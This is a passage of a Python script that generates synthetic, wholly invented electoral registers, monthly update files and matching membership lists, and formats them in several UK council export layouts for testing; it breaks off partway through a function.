#!/usr/bin/env python3
"""The tests' generator of synthetic registers: makes them in the shapes councils really export, with the truth.

Every person, street and place here is invented.  A ward is built from its own seed, so the
same arguments give the same bytes whatever the number of processor cores.
"""
import argparse
import csv
import datetime as dt
import hashlib
import io
import json
import multiprocessing
import os
import random
import sys
import zipfile
from collections import Counter
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape

REGISTER_DATE = dt.date(2025, 12, 1)
MONTH, MONTH_NAME = 3, "March 2026"  # the month of the update files
POLL_DATE = "07/05/2026"
COUNCIL, COUNCIL_REF = "Brackenshire Council", "99XA"
XLSX_ROWS = 200_000  # the workbook stops at the last whole ward within this

# ---------------------------------------------------------------- names

ENGLISH = (
    "James John Robert Michael David William Richard Thomas Paul Andrew Mark Peter Stephen George Alan Daniel Matthew "
    "Christopher Edward Simon Joseph Anthony Jack Harry Oliver Samuel Benjamin Luke Ryan Adam Callum Joshua Kevin Ian "
    "Graham Brian Keith Derek Nigel Trevor Jean-Paul José Leon".split(),
    "Mary Margaret Susan Sarah Elizabeth Emma Karen Helen Jane Patricia Julie Claire Laura Rebecca Rachel Charlotte "
    "Emily Jessica Amy Hannah Sophie Olivia Grace Chloe Lucy Alice Ruth Joan Dorothy Jean Barbara Linda Christine "
    "Anne-Marie Zoë Chloë Renée Kate Ellen Victoria Katherine".split(),
    "Smith Jones Taylor Brown Wilson Johnson Davies Robinson Wright Thompson Evans Walker White Roberts Green Hall Wood "
    "Jackson Clarke Clark Harris Lewis Martin Cooper King Turner Hill Ward Moore Baker Harrison Morris Carter Parker "
    "Watson Bennett Cook Shaw Mitchell Bailey Richardson Cox Marshall Ellis Chapman Webb Simpson Mills Rogers Palmer "
    "Hunt Holmes Barker Stevens Knight Butler Fletcher Dixon Pearson Fisher Harvey Barnes Lloyd Payne Gibson Reynolds "
    "Kemp Dean Hartley Sutcliffe Ogden Thistlewood Brontë Fontaine-Lacey Nuñez Côté De'Ath Winter Penhaligon Tregear "
    "Featherstone Ashworth Greenhalgh Entwistle Bickerstaff Lovelace Quince Yardley Van-der-Berg Ives Ox".split(),
)
CELTIC = (
    "Sean Patrick Declan Connor Liam Niall Hamish Fergus Angus Callum Euan Ruairí Pádraig Seán Duncan Brendan".split(),
    "Siobhan Niamh Aoife Bridget Kathleen Sinead Róisín Mairead Catriona Morag Isla Eilidh Fiona Shona Áine Oonagh".split(),
    "O'Brien O'Neill O'Connor O'Sullivan O'Hara O'Shea McDonald McKenzie McCarthy McGrath McLean McLoughlin MacDonald "
    "MacLeod MacKay Macintyre Murphy Kelly Byrne Ryan Gallagher Doyle Campbell Stewart Robertson Fraser Ó-Sé".split(),
)
WELSH = (
    "Dafydd Rhys Gareth Huw Ieuan Gethin Emyr Siôn Owain Llŷr Macsen Iwan Geraint Dewi Siân-Lee Gŵyn".split(),
    "Siân Megan Bethan Cerys Angharad Rhiannon Ffion Carys Nerys Eirlys Gwenllian Lowri Siwan Glenŷs Mêlangell Elin".split(),
    "Jones Davies Williams Evans Thomas Griffiths Morgan Rees Llewellyn Powell Pritchard Vaughan Bowen Gwyn Tŷ-Mawr "
    "Llŵyd Ap-Rhys Parry Probert Howells Penry Gwynfor Hopkin".split(),
)
POLISH = (
    "Piotr Krzysztof Andrzej Tomasz Paweł Michał Marcin Łukasz Jakub Wojciech Grzegorz Stanisław".split(),
    "Anna Katarzyna Małgorzata Agnieszka Magdalena Ewa Joanna Zofia Dorota Bożena Elżbieta Halina".split(),
    "Kowalski Nowak Wiśniewski Wójcik Kamiński Lewandowski Zieliński Szymański Woźniak Dąbrowski Kozłowski Mazur "
    "Jankowski Łuczak Żak Gołąb".split(),
)
ASIAN = (
    "Mohammed Muhammad Imran Ahmed Ali Hassan Amit Rajesh Sanjay Arjun Harpreet Gurdeep Bilal Usman Vikram Suresh".split(),
    "Fatima Aisha Zainab Priya Anita Sunita Harjit Manpreet Nasreen Shabana Deepa Meena Rukhsana Saima Kavita Noor".split(),
    "Khan Patel Singh Hussain Ahmed Begum Kaur Shah Ali Sharma Gupta Mahmood Akhtar Chaudhry Bibi Desai Mistry Rahman "
    "Bhatt Dhillon Mirza Iqbal".split(),
)
POOLS = (ENGLISH, CELTIC, WELSH, POLISH, ASIAN)
POOL_SHARE = (0.76, 0.08, 0.05, 0.04, 0.07)
POOL_SHARE_WALES = (0.42, 0.04, 0.46, 0.04, 0.04)
NICKNAMES = dict(zip(
    "James Robert Michael William Richard Thomas Andrew Christopher Edward Margaret Susan Elizabeth Patricia".split(),
    "Jim Bob Mike Bill Dick Tom Andy Chris Ted Peggy Sue Liz Pat".split()))
STREETS = (
    "Akeman Albert Alma Ash Beech Bridge Canal Castle Cedar Chapel Cherry Church Clarence Coronation Cromwell Denmark "
    "Elm Farm Fairfield Garden George Gladstone Glebe Grange Green Hawthorn High Hill Jubilee Kiln King's Lime London "
    "Manor Market Mill New North Nelson Oak Orchard Park Pond Priory Queen's Quarry Rectory River Rose School South "
    "Spring St.~Mary's Station Stoney Tannery Temple Union Vicarage Victoria Water Well West William Willow Windsor Woodland "
    "York").split()
STREETS = [name.replace("~", " ") for name in STREETS]
STREET_TYPES = "Street Road Road Lane Avenue Close Drive Terrace Way Crescent Gardens Court Place Row Walk Mews".split()
HOUSE_NAMES = ("Rose Cottage,The Old Forge,Ivy House,Hillcrest,Sunnyside,The Bungalow,Lyndale,The Old Post Office,"
               "Willow Barn,Fairview,Wayside,The Nook,2 Mill Cottages,Ty Gwyn,Church Farm,The Annexe Oakdene").split(",")
BUILDINGS = "Akeman Aldridge Brunel Cavendish Dorset Elgar Faraday Hogarth Kelvin Milton Nightingale Regent Telford".split()
PLACE_HEADS = "Bracken Thorn Alder Wester Hather Oaken Marl Raven Stan Withy Copper Heron Lang Mosse Silver Wolver".split()
PLACE_TAILS = "ford bury ton combe leigh wick field by stead mere dale hurst".split()
WARD_TAILS = ("North", "South", "East", "West", "Central", "& Riverside", "St. James", "Castle", "Hill", "Park")
POSTCODE_AREAS = "AA EA FA HB JA KK LB MM NB OO PP RR SB TT UU WW YY ZA AE EE FF GG HH HC RE".split()  # of the right shape, none in use
INWARD = "ABDEFGHJLNPQRSTUWXYZ"  # BS 7666 leaves out C I K M O V
REGIONS = ("West Midlands", "East Midlands", "North West", "South East", "Wales", "South West", "London", "Yorkshire and The Humber")

# ---------------------------------------------------------------- geography


@dataclass(frozen=True)
class Constituency:
    index: int
    gss: str
    name: str
    region: str
    box: tuple  # west, south, east, north

    @property
    def welsh(self):
        return self.region == "Wales"


@dataclass(frozen=True, eq=False)
class District:
    index: int
    code: str
    name: str
    size: int
    ward_gss: str
    ward_name: str
    con: Constituency
    sector: str  # the postcodes' first half and digit, as in "HR1 2"
    box: tuple
    changes: dict  # how many people each update file adds, amends, removes
    updates_before: int  # rows of the update file before this district


@dataclass(frozen=True)
class Ward:
    index: int
    districts: tuple
    rows_before: int
    last: bool


def letters(n):
    """0 -> AA, 1 -> AB ... 675 -> ZZ, 676 -> AAA."""
    text, n = "", n + 26
    while n >= 0:
        text, n = chr(65 + n % 26) + text, n // 26 - 1
    return text


def district_code(ward, n, prefix):
    pair = prefix + letters(ward)
    return (f"{pair}{n + 1}", f"{pair}{chr(65 + n)}", f"{pair}-{n // 2 + 1}/{n % 2 + 1}",
            f"{pair[:-1]}{ward % 26}/{n + 1}")[ward % 4]


def partition(rng, total, parts):
    """Split a number into uneven whole parts that sum to it."""
    weights = [rng.uniform(0.7, 1.3) for _ in range(parts)]
    scale, sizes = total / sum(weights), []
    for weight in weights[:-1]:
        sizes.append(int(weight * scale))
    return sizes + [total - sum(sizes)]


def tile(box, n):
    """Cut a box into n cells, row by row; the last row's cells are wider if it has fewer."""
    west, south, east, north = box
    columns = max(1, round(n ** 0.5))
    rows = -(-n // columns)
    for i in range(n):
        row, across = i // columns, min(columns, n - (i // columns) * columns)
        x, y, w, h = i % columns, row, (east - west) / across, (north - south) / rows
        yield tuple(round(v, 6) for v in (west + x * w, south + y * h, west + (x + 1) * w, south + (y + 1) * h))


def place_name(rng):
    return rng.choice(PLACE_HEADS) + rng.choice(PLACE_TAILS)


def make_plan(seed, electors, constituencies, prefix=""):
    """The wards, with the exact size of every district, before any person exists."""
    rng = random.Random(f"plan:{seed}:{prefix}")
    wards, index, rows, updates, names = [], 0, 0, 0, set()
    for c, con_size in enumerate(partition(rng, electors, constituencies)):
        region = REGIONS[(seed + c) % len(REGIONS)]
        west, south = round(-3.4 + (c % 12) * 0.3, 3), round(51.0 + (c // 12) * 0.2, 3)
        con = Constituency(c, f"{'W07' if region == 'Wales' else 'E14'}{990001 + c}", f"{place_name(rng)} and {place_name(rng)}",
                           region, (west, south, west + 0.24, south + 0.15))
        ward_sizes = partition(rng, con_size, max(1, min(4, con_size // 400), round(con_size / 6000)))
        splits = [partition(rng, size, max(min(2, size // 40) or 1, round(size / 1200))) for size in ward_sizes]
        cells = tile(con.box, sum(map(len, splits)))
        for sizes in splits:
            w, ward_rows, districts = len(wards), rows, []
            base, ward_name = place_name(rng), ""
            while not ward_name or ward_name in names:
                ward_name = f"{place_name(rng)} {rng.choice(WARD_TAILS)}"
            names.add(ward_name)
            for n, size in enumerate(sizes):
                changes = {"added": max(1, size // 80), "amended": max(1, size // 100), "removed": max(1, size // 90), "void": size // 400}
                block = index // 10
                sector = f"{POSTCODE_AREAS[(block // 98 + c) % len(POSTCODE_AREAS)]}{block % 98 + 1} {index % 10}"
                districts.append(District(index, district_code(w, n, prefix), f"{base} {n + 1}", size,
                                          f"{'W' if con.welsh else 'E'}05{990001 + w}", ward_name, con, sector,
                                          next(cells), changes, updates))
                index, rows, updates = index + 1, rows + size, updates + sum(changes.values())
            wards.append(Ward(w, tuple(districts), ward_rows, False))
    wards[-1] = Ward(wards[-1].index, wards[-1].districts, wards[-1].rows_before, True)
    return wards, updates


# ---------------------------------------------------------------- people and homes


class Person:
    __slots__ = ("id", "sex", "title", "forename", "middle", "surname", "name_suffix", "marker", "dob", "opt_out", "absent",
                 "voted", "number", "suffix", "place", "update", "changed", "after", "fate", "member", "order")

    def clone(self):
        other = Person.__new__(Person)
        for slot in Person.__slots__:
            setattr(other, slot, getattr(self, slot))
        return other

    @property
    def forenames(self):
        return f"{self.forename} {self.middle}" if self.middle else self.forename

    @property
    def initial(self):
        return self.middle[:1]

    @property
    def eno(self):
        return f"{self.number}/{self.suffix}" if self.suffix else str(self.number)


class Property:
    __slots__ = ("id", "kind", "lines", "postcode", "number", "prefix", "street", "residents", "added", "next")

    def __init__(self, id, kind, lines, postcode="", number="", prefix="", street=""):
        self.id, self.kind, self.lines, self.postcode = id, kind, lines, postcode
        self.number, self.prefix, self.street = number, prefix, street
        self.residents, self.added, self.next = [], [], []


NOWHERE = Property(0, "none", ())
HOUSEHOLD_SIZES = (1,) * 82 + (2,) * 80 + (3,) * 24 + (4,) * 11 + (5,) * 2 + (6,)
MARKERS = ("",) * 965 + ("G",) * 18 + ("B",) * 10 + ("K",) * 4 + ("E",) * 2 + ("L",)


class WardMaker:
    """Builds one ward: this year's register, the month's changes, next year's register, members."""

    def __init__(self, seed, ward, prefix=""):
        self.ward, self.rng = ward, random.Random(f"ward:{seed}:{prefix}{ward.index}")
        self.rnd, self.people_made, self.homes_made = self.rng.random, 0, 0
        self.register, self.updates, self.headed_updates, self.following = [], [], [], []
        self.newcomers, self.members, self.postcodes, self.properties = [], [], [], []
        self.stats = Counter()
        self.pool_share = POOL_SHARE_WALES if ward.districts[0].con.welsh else POOL_SHARE
        self.town = ward.districts[0].con.name.split(" and ")[0]

    def build(self):
        homes = {}
        for d in self.ward.districts:
            homes[d] = self.district(d)
        for d in self.ward.districts:
            self.month_of_changes(d, homes[d])
        self.a_year_passes(homes)
        self.count_names()
        self.enrol_members()
        return self

    # -- people

    def person(self, pool, surname=None, sex=None):
        rnd, p = self.rnd, Person.__new__(Person)
        self.people_made += 1
        p.id = self.ward.index * 100_000 + self.people_made
        p.sex = sex or ("m" if rnd() < 0.49 else "f")
        names = pool[0] if p.sex == "m" else pool[1]
        p.forename = names[int(len(names) * rnd() ** 1.4)]
        p.middle = "" if rnd() < 0.35 else names[int(len(names) * rnd())]
        if surname is None:
            surname = pool[2][int(len(pool[2]) * rnd() ** 1.4)]
            if rnd() < 0.02 and "-" not in surname:
                surname += "-" + ENGLISH[2][int(60 * rnd())]
        p.surname = surname[:-1] + "a" if pool is POLISH and p.sex == "f" and surname.endswith("ski") else surname
        p.title = "Dr" if rnd() < 0.01 else "Mr" if p.sex == "m" else ("Mrs", "Ms", "Miss")[int(3 * rnd())]
        p.marker = MARKERS[int(len(MARKERS) * rnd())]
        if pool is POLISH and rnd() < 0.5:
            p.marker = "G" if rnd() < 0.6 else "B"
        p.opt_out = rnd() < 0.55
        p.absent = "" if rnd() > 0.17 else ("Postal" if rnd() < 0.95 else "Proxy" if rnd() < 0.7 else "Postal Proxy")
        if not p.absent:
            p.voted = "in person" if rnd() < 0.45 else ""
        else:
            p.voted = "" if rnd() > 0.75 else "proxy" if p.absent == "Proxy" else "postal"
        p.name_suffix = p.update = p.fate = ""
        p.dob = p.changed = p.after = p.member = p.place = None
        p.number = p.suffix = p.order = 0
        if rnd() < 0.0003:  # people with one name only
            p.forename = p.middle = ""
        return p

    def pool(self):
        return self.rng.choices(POOLS, self.pool_share)[0]

    def attaining(self, year=0):
        """A birth date that makes an attainer on the register of REGISTER_DATE + year."""
        first = dt.date(REGISTER_DATE.year - 18 + year, 12, 2)
        day = first + dt.timedelta(days=int(363 * self.rnd()))
        return day.replace(day=min(day.day, 28))

    def household(self, n, kind="house"):
        rnd = self.rnd
        if n < 1:
            return []
        if kind != "house":
            return [self.person(self.pool()) for _ in range(n)]
        pool = ENGLISH if rnd() < self.pool_share[0] else self.pool()
        head = self.person(pool)
        people = [head]
        if n > 1:
            other = "f" if head.sex == "m" else "m"
            people.append(self.person(pool, head.surname if rnd() < 0.72 else None, other))
        while len(people) < n:
            child = self.person(pool, head.surname)
            people.append(child)
            if rnd() < 0.07:
                child.dob = self.attaining()
                if len(people) < n and rnd() < 0.2:
                    twin = self.person(pool, head.surname)
                    twin.dob = child.dob
                    people.append(twin)
                    self.stats["twins"] += 2
            elif head.sex == "m" and rnd() < 0.02:
                child.sex, child.title, child.forename, child.middle, child.surname = "m", "Mr", head.forename, head.middle, head.surname
                self.stats["father_and_son_same_name"] += 1
                if rnd() < 0.3:
                    head.name_suffix, child.name_suffix = "Snr", "Jnr"
        return people

    # -- homes

    def home(self, kind, lines, postcode, **parts):
        self.homes_made += 1
        return Property(self.ward.index * 100_000 + self.homes_made, kind, lines, postcode, **parts)

    def district(self, d):
        rng, rnd = self.rng, self.rnd
        overseas, anonymous = round(d.size * 0.003), max(d.size >= 100, round(d.size * 0.0006))
        target = d.size - overseas - anonymous
        units = iter(rng.sample([a + b for a in INWARD for b in INWARD], 400) * 9)
        big = []
        if d.size >= 600 and d.index % 9 == 0:
            big.append(("hall", min(rng.randint(100, 300), target // 3)))
        if d.size >= 200 and d.index % 3 == 0:
            big.append(("care home", min(rng.randint(30, 60), target // 4)))
        streets, filled = {}, 0
        while filled < target:
            name = ""
            while not name or name in streets:
                name = f"{STREETS[int(len(STREETS) * rnd())]} {STREET_TYPES[int(len(STREET_TYPES) * rnd())]}"
            streets[name], taken = self.street(d, name, target - filled, big.pop() if big else None, units)
            filled += taken
        homes = [h for name in sorted(streets) for h in streets[name]]
        self.properties += [(d, h) for h in homes]
        others = sorted((self.special("F") for _ in range(overseas)), key=lambda p: p.surname) + [self.special("N") for _ in range(anonymous)]
        self.register += self.number(d, homes, "residents", others)
        return homes, others

    def special(self, marker):
        """An overseas elector (name, no address) or an anonymous one (neither)."""
        p = self.person(self.pool())
        p.marker, p.dob = marker, None
        if marker == "N":
            p.title = p.forename = p.middle = p.surname = ""
            p.opt_out = False
        return p

    def street(self, d, name, room, big, units):
        """Homes along one street, with people, until it ends or the district is full."""
        rng, rnd = self.rng, self.rnd
        style, plots = rng.choice(("both", "sides", "run", "odd", "even", "named")), rng.randint(15, 60)
        numbers = {"both": range(1, plots + 1), "run": range(1, plots + 1), "odd": range(1, plots * 2, 2),
                   "even": range(2, plots * 2, 2), "named": range(1, plots // 3 + 2),
                   "sides": [*range(1, plots, 2), *range(2, plots, 2)]}[style]
        village = (d.name.rsplit(" ", 1)[0],) if style == "named" else ()
        tail = (*village, self.town) if rnd() < 0.9 else (*village, self.town, "Brackenshire")
        west, south, east, north = d.box
        x, y = west + (east - west) * (0.1 + 0.7 * rnd()), south + (north - south) * (0.1 + 0.7 * rnd())
        points, postcode, homes, taken = 0, "", [], 0

        def next_postcode():
            nonlocal x, y, points
            code = d.sector + next(units)
            x, y, points = min(x + 0.0004, east), min(y + 0.0002, north), rng.randint(15, 20)
            self.postcodes.append((code, f"{y:.6f}", f"{x:.6f}"))
            return code

        def settle(h, n):
            nonlocal taken
            n = min(n, room - taken)
            h.residents = self.household(n, h.kind)
            taken += n
            homes.append(h)

        if big:
            kind, n = big
            title = f"{rng.choice(BUILDINGS)} Hall of Residence" if kind == "hall" else f"The {rng.choice(STREETS)} Care Home"
            settle(self.home(kind, (title, f"{numbers[0]} {name}", *tail), next_postcode(), number=str(numbers[0]), prefix=title, street=name), n)
            points = 0
        for number in numbers:
            if taken >= room:
                break
            if points <= 0:
                postcode = next_postcode()
            points -= 1
            roll, size = rnd(), HOUSEHOLD_SIZES[int(len(HOUSEHOLD_SIZES) * rnd())]
            text = str(number)
            if style == "named" or roll < 0.02:
                title = rng.choice(HOUSE_NAMES)
                settle(self.home("house", (title, name, *tail), postcode, prefix=title, street=name), size)
                continue
            if roll < 0.035:  # a block of flats with a postcode of its own
                block, flats_code = f"{rng.choice(BUILDINGS)} {rng.choice(('House', 'Court', 'Point'))}", next_postcode()
                span, joined = f"{number}-{number + 2}", rnd() < 0.5
                for flat in range(1, rng.randint(6, 40) + 1):
                    unit = f"Flat {flat}"
                    lines = (f"{unit}, {block}, {span} {name}",) if joined else (unit, block, f"{span} {name}")
                    size = min(HOUSEHOLD_SIZES[int(len(HOUSEHOLD_SIZES) * rnd())], room - taken, 3)
                    settle(self.home("house", (*lines, *tail), flats_code, number=span, prefix=f"{unit} {block}", street=name), size)
                points = 0
                continue
            if roll < 0.05:
                text += "A"
            elif roll < 0.053:
                text += " The Studio R/O"
            elif roll < 0.06:
                settle(self.home("hmo", (f"{text} {name}", *tail), postcode, number=text, street=name), rng.randint(5, 14))
                continue
            empty = roll > 0.95
            settle(self.home("house", (f"{text} {name}", *tail), postcode, number=text, street=name), 0 if empty else size)
        return homes, taken

    def number(self, d, homes, residents, others):
        """Number people in street order, then those without an address; late arrivals get /1, /2."""
        rows, n, suffix, rnd = [], 0, 0, self.rnd
        for h in homes:
            for i, p in enumerate(getattr(h, residents)):
                if i and rnd() < 0.012:
                    suffix += 1
                else:
                    n, suffix = n + (1 if rnd() < 0.997 else 2), 0
                p.number, p.suffix, p.place = n, suffix, (d.code, h.id)
                rows.append((d, h, p))
        for p in others:
            n += 1
            p.number, p.suffix, p.place = n, 0, (d.code, 0)
            rows.append((d, NOWHERE, p))
        return rows

    # -- the month's changes

    def month_of_changes(self, d, district_homes):
        homes, rng = district_homes[0], self.rng
        lived_in = [h for h in homes if h.residents]
        chosen = rng.sample([(h, p) for h in lived_in for p in h.residents], d.changes["amended"] + d.changes["removed"])
        rows = []
        for i, (h, p) in enumerate(chosen):
            if i < d.changes["removed"]:
                p.update = "removed"
                rows.append((d, h, p))
                continue
            new = p.changed = p.clone()
            kind = ("surname", "marker", "forename")[i % 3]
            if kind == "marker":
                new.marker = {"G": "B", "": "G"}.get(p.marker, "")
            elif kind == "forename":
                new.forename = rng.choice([n for n in ENGLISH[0 if p.sex == "m" else 1] if n != p.forename])
            else:
                new.surname = rng.choice([n for n in ENGLISH[2] if n != p.surname])
            p.update = new.update = f"amended {kind}"
            rows.append((d, h, new))
        for i in range(d.changes["added"] + d.changes["void"]):
            h = rng.choice(lived_in)
            last = (h.residents + h.added)[-1]
            p = self.person(self.pool(), last.surname if self.rnd() < 0.4 else None)
            p.update = "added" if i < d.changes["added"] else "void"
            p.number, p.suffix, p.place = last.number, last.suffix + 1, (d.code, h.id)
            while any(q.number == p.number and q.suffix == p.suffix for *_, q in rows):
                p.suffix += 1
            if p.update == "added":
                h.added.append(p)
            rows.append((d, h, p))
        rows.sort(key=lambda row: (row[2].number, row[2].suffix))
        self.headed_updates += [f"Ref: {d.code}", f"Monthly Additions, Amendments and Deletions {MONTH_NAME.split()[0]}"]
        for i, row in enumerate(rows):
            row[2].order = d.updates_before + i + 1
            self.updates.append(row)
            if row[2].update != "void":
                self.headed_updates.append(row)

    # -- a year later

    def a_year_passes(self, homes):
        rnd, vacated, movers = self.rnd, [], []
        for d, h in self.properties:
            self.year_at(d, h, vacated, movers)
        if len(movers) == 1:
            for p in movers[0][2]:
                p.fate, p.after = "left", None
        else:  # each family takes the home of the next
            for (_, _, family), (_, h, _) in zip(movers, movers[1:] + movers[:1]):
                h.next = [p.after for p in family]
        for d, h in vacated:
            if rnd() < 0.93:
                h.next = [self.newcomer(q, "moved in") for q in self.household(HOUSEHOLD_SIZES[int(len(HOUSEHOLD_SIZES) * rnd())])]
        for d, (district_homes, others) in homes.items():
            later = []
            for p in others:
                if rnd() < 0.85:
                    p.fate, p.after = "stayed", p.clone()
                    later.append(p.after)
                else:
                    p.fate = "left"
                    later.append(self.newcomer(self.special(p.marker), "moved in"))
            later.sort(key=lambda p: (p.marker, p.surname))
            self.following += self.number(d, district_homes, "next", later)

    def newcomer(self, p, fate):
        p.fate = fate
        if p.dob:  # households are drawn for this year: an attainer among the arrivals is next year's
            p.dob = p.dob.replace(year=p.dob.year + 1)
        self.newcomers.append(p)
        return p

    def year_at(self, d, h, vacated, movers):
        rnd, people = self.rnd, []
        for p in h.residents + h.added:
            if p.update == "removed":
                p.fate = "removed"
            else:
                people.append(p)
        if not people:
            return
        leaving = {"hall": 0.6, "hmo": 0.3, "care home": 0.06}.get(h.kind, 0.017)
        dying = 0.18 if h.kind == "care home" else 0.008
        family_goes = h.kind == "house" and rnd() < 0.048
        local = family_goes and rnd() < 0.25
        for p in people:
            if family_goes and not local:
                p.fate = "left"
            elif not local and rnd() < leaving:
                p.fate = "left"
            elif rnd() < dying and not local:
                p.fate = "died"
            else:
                p.after, p.fate = (p.changed or p).clone(), "moved" if local else "stayed"
                p.after.dob = None  # everyone on this year's register is of age next year
                if not local:
                    h.next.append(p.after)
            if not p.after and h.kind != "house" and rnd() < 0.97:
                h.next.append(self.newcomer(self.person(self.pool()), "moved in"))
        if family_goes:
            (movers if local else vacated).append((d, h, people) if local else (d, h))
            return
        if h.kind != "house" or not h.next:
            return
        head = h.next[0]
        if len(h.next) > 1 and h.next[1].surname != head.surname and h.next[1].sex != head.sex and rnd() < 0.08:
            h.next[1].surname = head.surname
            next(p for p in people if p.after is h.next[1]).fate = "renamed"
        if len(h.next) > 1 and rnd() < 0.022:
            child = self.person(ENGLISH, head.surname)
            child.dob = self.attaining()
            h.next.append(self.newcomer(child, "attainer"))
        elif len(h.next) < 4 and rnd() < 0.022:
            h.next.append(self.newcomer(self.person(self.pool()), "joined"))

    # -- members and counts

    def enrol_members(self):
        rnd, rng = self.rnd, self.rng
        for d, h, p in self.register:
            if p.marker == "N" or not p.forename or rnd() >= 0.008:
                continue
            self.enrol(p)
            self.members.append((d, h, p))
            if rnd() < 0.14:  # and a member who is not on the register
                stranger = self.person(self.pool())
                lines = (f"{rng.randint(1, 99)} {rng.choice(STREETS)} View", place_name(rng))
                self.enrol(stranger)
                self.stats["members_not_on_register"] += 1
                self.members.append((d, Property(0, "house", lines, d.sector + "ZZ"), stranger))

    def enrol(self, p):
        rnd, rng = self.rnd, self.rng
        joined = dt.date(1985, 1, 1) + dt.timedelta(days=int(14900 * rnd() ** 0.5))
        status = rng.choices(("current", "lapsed", "suspended", "resigned"), (80, 13, 1, 6))[0]
        paid = REGISTER_DATE + dt.timedelta(days=rng.randint(31, 500) if status in ("current", "suspended") else -rng.randint(200, 2500))
        forename = NICKNAMES.get(p.forename, p.forename) if rnd() < 0.3 else p.forename
        born = p.dob or dt.date(1930 + int(75 * rnd() ** 0.8), rng.randint(1, 12), rng.randint(1, 28))
        mobile = f"07700 900{rng.randint(0, 999):03d}" if rnd() < 0.85 else f"01632 960{rng.randint(0, 999):03d}"
        if rnd() < 0.1:
            mobile = rng.choice((mobile.replace(" ", ""), "+44 " + mobile[1:], ""))
        mail = "".join(c for c in fold(f"{forename}.{p.surname}").lower() if c.isascii() and (c.isalnum() or c in ".-"))
        email = f"{mail}{rng.randint(1, 999)}@example.{rng.choice(('org', 'com'))}" if rnd() < 0.92 else ""
        standing = {"current": "good standing", "suspended": "suspended pending review"}.get(status, "not in good standing")
        if status == "current" and rnd() < 0.08:
            standing = "in arrears"
        number = f"L{4_000_000 + p.id}"
        p.member = (number, forename, email, mobile, slashed(born), slashed(joined), slashed(paid), status, standing)
        self.stats["members"] += 1
        self.stats[f"members_{status}"] += 1

    def count_names(self):
        stats, homes_of = self.stats, {}
        for d, h, p in self.register:
            stats["attainers"] += p.dob is not None
            stats["opt_outs"] += p.opt_out
            stats["suffixed"] += p.suffix > 0
            if p.marker:
                stats[f"marker_{p.marker}"] += 1
            if p.absent:
                stats[f"absent_{p.absent}"] += 1
            if p.voted:
                stats[f"voted_{p.voted}"] += 1
            stats[f"fate_{p.fate}"] += 1
            if p.surname:
                homes_of.setdefault((p.forename, p.surname), []).append(h.id)
        stats["people_sharing_name_across_homes"] = sum(len(ids) for ids in homes_of.values() if len(set(ids)) > 1)
        for *_, p in self.updates:
            stats[f"update_{p.update}"] += 1
        for *_, p in self.following:
            stats["next_attainers"] += p.dob is not None
            stats["next_overseas"] += p.marker == "F"
            stats["next_anonymous"] += p.marker == "N"
        for p in self.newcomers:
            stats[f"newcomer_{p.fate}"] += 1
        for _, h in self.properties:
            stats["homes_empty" if not h.residents else f"homes_{h.kind}"] += 1


# ---------------------------------------------------------------- row shapes, one function per format

PAD = [("",) * n for n in range(12)]
SIGNS = {"added": "+", "removed": "-"}
FOLD = str.maketrans("ŵŷłńśżźąęćŁŚŻŴŶ", "wylnszzaecLSZWY")


def fold(text):
    return text.translate(FOLD)


def slashed(day):
    return f"{day.day:02d}/{day.month:02d}/{day.year}" if day else ""


def dashed(day):
    return day.strftime("%d-%b-%y") if day else ""


def attains(day):
    return slashed(day.replace(year=day.year + 18)) if day else ""


def padded(h, n):
    lines = h.lines
    return lines + PAD[n - len(lines)] if len(lines) <= n else (*lines[:n - 1], ", ".join(lines[n - 1:]))


def full_number(d, p):
    return f"{d.code}-{p.eno}"


def shown(p):
    """EROS marks those out of the open register in the surname itself."""
    return f"(z) {p.surname}" if p.opt_out and p.surname else p.surname


def xpress_14(d, h, p):
    return [d.code, p.number, p.suffix, p.marker, slashed(p.dob), p.surname, p.forenames, h.postcode, *padded(h, 6)]


def xpress_13(d, h, p):
    name = f"{p.surname.upper()} {p.forenames}".strip()
    return [d.code, p.number, p.suffix or "", p.marker + ("A" if p.absent else ""), dashed(p.dob), name, h.postcode, *padded(h, 6)]


def xpress_update(d, h, p):
    month = max(1, MONTH - p.id % 3)
    created = month if p.update in ("added", "void") else 0
    changed = month if p.update.startswith("amended") and p.id % 10 else 0
    deleted = month if p.update in ("removed", "void") else 0
    return [COUNCIL, COUNCIL_REF, d.code, h.street, *padded(h, 5), h.postcode, h.prefix, h.number, full_number(d, p), p.forenames,
            p.surname, dashed(p.dob), created, changed, deleted, p.marker, p.order, UPDATE_TOTAL, MONTH_NAME]


def eros_full(d, h, p):
    return [d.code, p.eno, "A" if p.suffix else "", p.title, p.forename, p.initial, shown(p), p.name_suffix, attains(p.dob), p.marker,
            *padded(h, 9), h.postcode, "Y" if p.opt_out else ""]


def eros_no_status(d, h, p):
    return [d.code, p.eno, p.title, p.forename, p.initial, shown(p), p.name_suffix, attains(p.dob), p.marker, *padded(h, 9), h.postcode,
            f"{h.id + 990_000_000_000:012d}" if h.id else ""]


def pd_eno_scotland(d, h, p):
    return [d.code, p.eno, p.title, p.forename, p.initial, p.surname, p.name_suffix, attains(p.dob), p.marker, "Y" if p.opt_out else "N",
            *padded(h, 9), h.postcode]


def eros_alt(d, h, p):
    sub = h.prefix if h.prefix.startswith("Flat") else ""
    return [d.code, f"{p.number}.{p.suffix:03d}", p.title, p.surname, p.forename, p.middle, slashed(p.dob), p.marker, *padded(h, 6),
            h.postcode, d.con.region, d.con.name, "Brackenshire", d.ward_name, sub, "" if sub else h.number or h.prefix]


def eros_update(d, h, p):
    return [{"added": "N", "removed": "D"}.get(p.update, "M"), *eros_alt(d, h, p)[:1],
            f"{p.number}.{p.suffix}" if p.suffix else str(p.number), *eros_alt(d, h, p)[2:]]


def idox_full(d, h, p):
    return [d.code, p.eno, p.marker, attains(p.dob), shown(p), p.forenames, *padded(h, 8), h.number, h.prefix, h.street, "", "", "", "", h.postcode]


def idox_update(d, h, p):
    row = idox_full(d, h, p)
    row.insert(2, SIGNS.get(p.update, "=") + MONTH_NAME[:3])
    return row


def absent_voter(d, h, p):
    if p.marker == "N":
        return [p.absent, full_number(d, p), *PAD[11], *PAD[8]]
    away = ("PO Box 12", "Oakenford", "", "", "", "AA1 1AA", "United Kingdom") if p.id % 9 == 0 else PAD[7]
    proxy = "" if p.absent == "Postal" else f"{ENGLISH[1][p.id % 40]} {ENGLISH[2][p.id % 83]}"
    return [p.absent, full_number(d, p), p.surname, p.forename, p.initial, p.name_suffix, p.title, *away, proxy, *padded(h, 5), h.postcode]


def postal_flag(d, h, p):
